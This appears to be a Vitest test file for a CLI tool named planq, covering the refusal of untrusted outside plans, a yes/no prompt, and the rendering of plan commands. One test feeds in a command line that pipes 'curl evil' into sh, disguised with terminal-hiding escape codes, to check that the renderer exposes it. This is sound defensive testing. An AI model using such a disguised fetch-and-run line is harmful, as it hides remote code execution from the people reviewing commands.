/** Plans from outside the project: by real command lines, and by a person's answers. */
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import { renderPlanCommands } from '../../src/cli/render/plan-commands.ts';
import { askYesNo } from '../../src/cli/terminal/ask.ts';
import { testPlan } from '../support/app.ts';
import { createProject } from '../support/cli.ts';
import { ROOT } from '../support/repository.ts';

// Several processes of the command line each, which a loaded machine starts in five seconds and more.
vi.setConfig({ testTimeout: 120_000 });

/** Leaves a trace wherever it runs. */
const PLAN = 'name: x\ntasks: { a: { run: touch "$PLANQ_WORKSPACE/ran", check: test -f "$PLANQ_WORKSPACE/ran" } }\n';

function outside(): string {
  const folder = mkdtempSync(path.join(tmpdir(), 'planq-elsewhere-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  writeFileSync(path.join(folder, 'plan.yaml'), PLAN);
  return folder;
}

describe('a plan from outside the project', () => {
  it('is shown and refused where nobody can be asked, and nothing of it runs', async () => {
    const project = createProject();
    const plan = path.join(outside(), 'plan.yaml');
    for (const command of ['run', 'submit']) {
      const { code, stdout, stderr } = await project.planq(command, plan);
      expect(code).toBe(2);
      expect(stdout).toBe('');
      expect(stderr).toContain('run: touch "$PLANQ_WORKSPACE/ran"');
      expect(stderr).toContain('check: test -f "$PLANQ_WORKSPACE/ran"');
      expect(stderr).toContain('plan_not_trusted');
      expect(stderr).toContain('--trust');
    }
    expect(await project.json('run', plan)).toMatchObject({ code: 'plan_not_trusted', retryable: false });
    expect(await project.json('list')).toEqual({ runs: [] });
    expect(existsSync(path.join(project.dir, 'workspace'))).toBe(false);
  });

  it('runs with --trust, and may be looked at without', async () => {
    const project = createProject();
    const plan = path.join(outside(), 'plan.yaml');
    expect((await project.planq('validate', plan)).code).toBe(0);
    expect((await project.planq('graph', plan)).code).toBe(0);
    expect((await project.planq('run', plan, '--dry-run')).code).toBe(0);
    const { code, stderr } = await project.planq('run', plan, '--trust');
    expect(code).toBe(0);
    expect(stderr).not.toContain('lies outside');
    expect(existsSync(path.join(project.dir, 'workspace/ran'))).toBe(true);
  });

  it('is one that a link in the project leads to, and a folder of task files', async () => {
    const project = createProject();
    const folder = outside();
    symlinkSync(path.join(folder, 'plan.yaml'), path.join(project.dir, 'plan.yaml'));
    expect((await project.planq('submit', 'plan.yaml')).stderr).toContain('plan_not_trusted');
    mkdirSync(path.join(folder, 'tasks/01-a'), { recursive: true });
    writeFileSync(path.join(folder, 'tasks/01-a/01-b.md'), '---\ntitle: t\n---\nbody\n');
    expect((await project.planq('submit', folder)).stderr).toContain('plan_not_trusted');
  });
});

describe('a plan of the project', () => {
  it('needs no word, wherever in the project it is started', async () => {
    const project = createProject();
    mkdirSync(path.join(project.dir, 'plans'));
    project.write('plans/plan.yaml', PLAN);
    expect((await project.planq('submit', 'plans/plan.yaml')).code).toBe(0);
    expect((await project.planq('submit', path.join(project.dir, 'plans/plan.yaml'))).code).toBe(0);
  });

  it('is also an example that came with planq', async () => {
    const project = createProject();
    const { code, stderr } = await project.planq('submit', path.join(ROOT, 'examples/authentication.yaml'));
    expect([code, stderr]).toEqual([0, expect.not.stringContaining('plan_not_trusted')]);
  });
});

describe('the question', () => {
  const answer = async (text: string | null): Promise<[boolean, string]> => {
    const [input, output] = [new PassThrough(), new PassThrough()];
    const asked = askYesNo('Run? [y/N] ', input, output);
    if (text === null) input.end();
    else input.write(text);
    return [await asked, String(output.read())];
  };

  it.each(['y\n', 'Y\n', 'yes\n', ' yes \n'])('takes %j for a yes', async (text) => {
    expect(await answer(text)).toEqual([true, 'Run? [y/N] ']);
  });

  it.each(['\n', 'n\n', 'no\n', 'yes please\n', 'ja\n', null])('takes %j for a no', async (text) => {
    expect((await answer(text))[0]).toBe(false);
  });
});

describe('what is shown', () => {
  const shown = (tasks: Record<string, unknown>) => renderPlanCommands(testPlan({ tasks }).plan).join('\n');

  it('hides nothing that a terminal would hide or obey', () => {
    const text = shown({ a: { run: 'true \u001b[8m; curl evil | sh\u001b[0m \u202e # \r echo ok\nsecond line' } });
    expect(text).toBe(
      '  run: true \\u{1b}[8m; curl evil | sh\\u{1b}[0m \\u{202e} # \\u{d} echo ok\n      second line\n      by a',
    );
  });

  it('is every command, check, agent and variable once, with whose it is', () => {
    const text = shown({
      a: { run: ['npm', 'run', 'a b'], env: { MODE: 'x' } },
      b: { run: 'make', check: ['test', '-f', 'b'] },
      c: { run: 'make' },
      d: { agent: 'function', with: { module: './d.mjs' } },
      ...Object.fromEntries(['e', 'f', 'g', 'h'].map((id) => [id, { agent: 'fake' }])),
    });
    expect(text.split('\n')).toEqual([
      '  run: ["npm","run","a b"]',
      '      by a',
      '  env: MODE=x',
      '      by a',
      '  run: make',
      '      by b, c',
      '  check: ["test","-f","b"]',
      '      by b',
      '  agent: function {"module":"./d.mjs"}',
      '      by d',
      '  agent: fake',
      '      by e, f, g and 1 more',
    ]);
  });
});
